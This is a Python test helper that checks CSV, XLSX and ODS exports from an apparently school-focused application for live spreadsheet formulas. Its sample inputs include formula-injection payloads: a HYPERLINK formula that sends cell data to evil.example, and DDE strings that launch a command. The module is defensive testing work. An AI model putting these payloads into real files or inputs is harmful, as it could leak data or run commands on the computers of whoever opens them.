"""Assertions that an exported file holds no live formula, shared by every export's tests."""

from __future__ import annotations

import csv
import io
import math
import re
import zipfile
from xml.etree import ElementTree

import openpyxl

from schooltech.core.spreadsheets import FORMULA_TRIGGERS

# Formula-like text every export test types into every field a person can fill in.
TYPED_FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def typed_formula(number: int, max_length: int | None = None) -> str:
    text = TYPED_FORMULAS[number % len(TYPED_FORMULAS)]
    return text[:max_length] if max_length else text


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_has_no_live_formula(content: bytes) -> list[list[str]]:
    rows = csv_cells(content)
    for number, row in enumerate(rows, start=1):
        for cell in row:
            assert not (cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)), (number, cell)
    return rows


def assert_xlsx_has_no_live_formula(content: bytes) -> list[openpyxl.cell.Cell]:
    """No formula in the file's XML, every cell a value, formula-like text marked as text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), f"{name} holds a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return cells


def xlsx_texts(cells) -> set[str]:
    return {cell.value for cell in cells if isinstance(cell.value, str)}


ODS_NAMESPACES = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def ods_sheets(content: bytes) -> dict[str, list[list[tuple[str | None, str | None, str]]]]:
    """Each sheet's rows of (value type, typed value, text), after checking the file is a well-formed ODS
    with no formula anywhere."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        first = archive.infolist()[0]
        assert first.filename == "mimetype" and first.compress_type == zipfile.ZIP_STORED
        assert archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
        assert b"content.xml" in archive.read("META-INF/manifest.xml")
        root = ElementTree.fromstring(archive.read("content.xml"))  # raises on malformed XML
    office, table, text = (f"{{{ODS_NAMESPACES[name]}}}" for name in ("office", "table", "text"))
    sheets = {}
    for sheet in root.iter(f"{table}table"):
        rows = []
        for row in sheet.iter(f"{table}table-row"):
            cells = []
            for cell in row.iter(f"{table}table-cell"):
                assert f"{table}formula" not in cell.attrib, "a cell holds a formula"
                value_type = cell.get(f"{office}value-type")
                typed = cell.get(f"{office}value") or cell.get(f"{office}date-value")
                cells.append((value_type, typed, "\n".join(p.text or "" for p in cell.iter(f"{text}p"))))
            rows.append(cells)
        sheets[sheet.get(f"{table}name")] = rows
    return sheets
